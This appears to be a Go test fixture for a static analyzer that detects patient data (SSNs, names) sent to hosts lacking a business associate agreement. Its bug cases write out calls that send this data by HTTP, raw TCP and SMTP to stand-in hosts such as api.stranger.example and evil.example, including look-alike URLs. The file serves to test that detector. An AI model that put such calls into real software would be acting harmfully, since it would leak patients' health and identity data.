// Package web keeps cases about net/http and hosts.
package web

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/http"
	"net/smtp"
	"net/url"
	"os"
	"strings"

	"model"
	"partner"
)

func bugPost(p model.Patient) {
	http.Post("https://api.stranger.example/v1", "text/plain", strings.NewReader(p.SSN)) // want `PHI is sent to a host without a BAA: Patient.SSN \(ssn\) is sent by http.Post to api.stranger.example`
}

func safeCovered(p model.Patient) {
	http.Post("https://fhir.clinic.example/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post("https://user@FHIR.clinic.example.:8443/v1", "text/plain", strings.NewReader(p.SSN))
}

func bugLookAlike(p model.Patient) {
	http.Post("https://clinic.example.evil.example/v1", "text/plain", strings.NewReader(p.SSN)) // want `to clinic.example.evil.example`
	http.Post("https://clinic.example@evil.example/v1", "text/plain", strings.NewReader(p.SSN)) // want `to evil.example`
	http.Post("https://clinic.example/v1", "text/plain", strings.NewReader(p.SSN))              // want `to clinic.example$`
}

func bugQuery(p model.Patient) {
	http.Get("https://api.stranger.example/find?ssn=" + url.QueryEscape(p.SSN)) // want `Patient.SSN \(ssn\) is sent by http.Get to api.stranger.example`
}

func bugRequest(ctx context.Context, p model.Patient) error {
	body, err := json.Marshal(p)
	if err != nil {
		return err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, fmt.Sprintf("https://%s/v1/%s", "api.stranger.example", p.ID), bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	_, err = http.DefaultClient.Do(req) // want `Patient.Name \(name\) and Patient.SSN \(ssn\) are sent by \(\*http.Client\).Do to api.stranger.example`
	return err
}

func bugHeader(p model.Patient) {
	req, _ := http.NewRequest("GET", "https://api.stranger.example", nil)
	req.Header.Set("X-Patient", p.SSN)
	new(http.Client).Do(req) // want `Patient.SSN \(ssn\) is sent by .* to api.stranger.example`
}

func safeRequest(p model.Patient) {
	req, _ := http.NewRequest("GET", "https://api.stranger.example", nil)
	req.Header.Set("X-Clinic", p.Clinic)
	http.DefaultClient.Do(req)
}

func bugURL(p model.Patient) {
	u := &url.URL{Scheme: "https", Host: "api.stranger.example", Path: "/find"}
	q := u.Query()
	q.Set("name", p.Name)
	u.RawQuery = q.Encode()
	http.Get(u.String()) // want `Patient.Name \(name\) is sent by http.Get to api.stranger.example`
}

func bugParsed(p model.Patient) {
	u, _ := url.Parse("https://api.stranger.example/v1")
	http.Get(u.JoinPath("patients", p.SSN).String()) // want `Patient.SSN \(ssn\) is sent by http.Get to api.stranger.example`
}

func safeURL(p model.Patient) {
	u := url.URL{Scheme: "https", Host: "fhir.clinic.example", RawQuery: "ssn=" + p.SSN}
	http.Get(u.String())
}

func safeLoopback(p model.Patient) {
	http.Post("http://localhost:8080/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post("http://127.0.0.1/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post("http://[::1]:80/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post("http://ehr/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post("http://ehr.prod.svc.cluster.local/v1", "text/plain", strings.NewReader(p.SSN))
}

func bugConstant(p model.Patient) {
	http.Post(partner.Endpoint("/x"), "", strings.NewReader(p.SSN)) // want `to api.stranger.example`
	http.Post(partner.URL, "", strings.NewReader(p.SSN))            // want `to var.stranger.example`
	partner.Post("https://"+"arg.stranger.example", p.SSN)          // want `Patient.SSN \(ssn\) is sent by http.Post .* to arg.stranger.example`
}

func safeConstant(p model.Patient) {
	http.Post(partner.Covered+"/x", "", strings.NewReader(p.SSN))
	partner.Post("https://fhir.clinic.example/x", p.SSN)
}

func bugDefault(p model.Patient) {
	base := os.Getenv("BASE")
	if base == "" {
		base = "https://api.stranger.example"
	}
	http.Post(base+"/v1", "", strings.NewReader(p.SSN))                                                  // want `to api.stranger.example`
	http.Post(cmp.Or(os.Getenv("B"), "https://or.stranger.example")+"/v1", "", strings.NewReader(p.SSN)) // want `to or.stranger.example`
}

func safeDefault(p model.Patient) {
	http.Post(cmp.Or(os.Getenv("B"), "https://fhir.clinic.example")+"/v1", "", strings.NewReader(p.SSN))
}

func bugUnknown(p model.Patient) {
	http.Post(os.Getenv("BASE")+"/v1", "", strings.NewReader(p.SSN)) // want `PHI is sent to a host that is not known until run time: Patient.SSN \(ssn\) is sent by http.Post to what the environment says`
}

var base = flag.String("base", "https://flag.stranger.example", "")

func bugFlag(p model.Patient) {
	http.Post(*base+"/v1", "", strings.NewReader(p.SSN)) // want `to flag.stranger.example`
}

// Config is filled by a library.
type Config struct {
	URL     string `envconfig:"U" default:"https://tag.stranger.example"`
	Partner string //phi:baa
	Other   string
}

func bugTag(c Config, p model.Patient) {
	http.Post(c.URL+"/v1", "", strings.NewReader(p.SSN)) // want `to tag.stranger.example`
}

func safeDirective(c *Config, p model.Patient) {
	http.Post(c.Partner+"/v1", "", strings.NewReader(p.SSN))
}

func bugOther(c *Config, p model.Patient) {
	http.Post(c.Other+"/v1", "", strings.NewReader(p.SSN)) // want `is not known until run time: .* to what Config.Other says`
}

type client struct {
	base string
	http *http.Client
}

func newClient() *client {
	return &client{base: "https://field.stranger.example", http: &http.Client{}}
}

func (c *client) send(p model.Patient) error {
	req, err := http.NewRequest("POST", c.base+"/v1", strings.NewReader(p.Name))
	if err != nil {
		return err
	}
	_, err = c.http.Do(req) // want `Patient.Name \(name\) is sent by \(\*http.Client\).Do to field.stranger.example`
	return err
}

func post(to string, p model.Patient) {
	http.Post("https://"+to+"/v1", "", strings.NewReader(p.Name))
}

func bugCaller(p model.Patient)  { post("arg.stranger.example", p) } // want `Patient.Name \(name\) is sent by http.Post \(via post, web.go:\d+\) to arg.stranger.example`
func safeCaller(p model.Patient) { post("fhir.clinic.example", p) }

func bugBranches(eu bool, p model.Patient) {
	host := "https://fhir.clinic.example"
	if eu {
		host = "https://eu.stranger.example"
	}
	http.Post(host, "", strings.NewReader(p.SSN)) // want `to eu.stranger.example`
}

func bugDial(p model.Patient) {
	conn, err := net.Dial("tcp", "hl7.stranger.example:2575")
	if err != nil {
		return
	}
	fmt.Fprintf(conn, "PID|%s", p.Name) // want `Patient.Name \(name\) is sent by .* to hl7.stranger.example`
}

func safeDial(p model.Patient) {
	conn, err := net.Dial("tcp", net.JoinHostPort("localhost", "2575"))
	if err != nil {
		return
	}
	conn.Write([]byte(p.Name))
}

func bugMail(p model.Patient) {
	smtp.SendMail("mail.stranger.example:25", nil, "a@b.example", []string{"c@d.example"}, []byte(p.Name)) // want `to mail.stranger.example`
}

func safeAgreed(p model.Patient) {
	http.Post(partner.Agreed+"/v1", "text/plain", strings.NewReader(p.SSN))
	http.Post(partner.Hub()+"/v1", "text/plain", strings.NewReader(p.SSN))
}

// A Holder holds clients that their own package made.
type Holder struct {
	fixed   *partner.Fixed
	sidecar *partner.Sidecar
}

func (h *Holder) bugFixed(p model.Patient) {
	h.fixed.Send(p.SSN) // want `Patient.SSN \(ssn\) is sent by http.Post \(via .*\) to fixed.stranger.example`
}

func (h *Holder) safeSidecar(p model.Patient) {
	http.Post(h.sidecar.Base+"/v1", "text/plain", strings.NewReader(p.SSN))
}
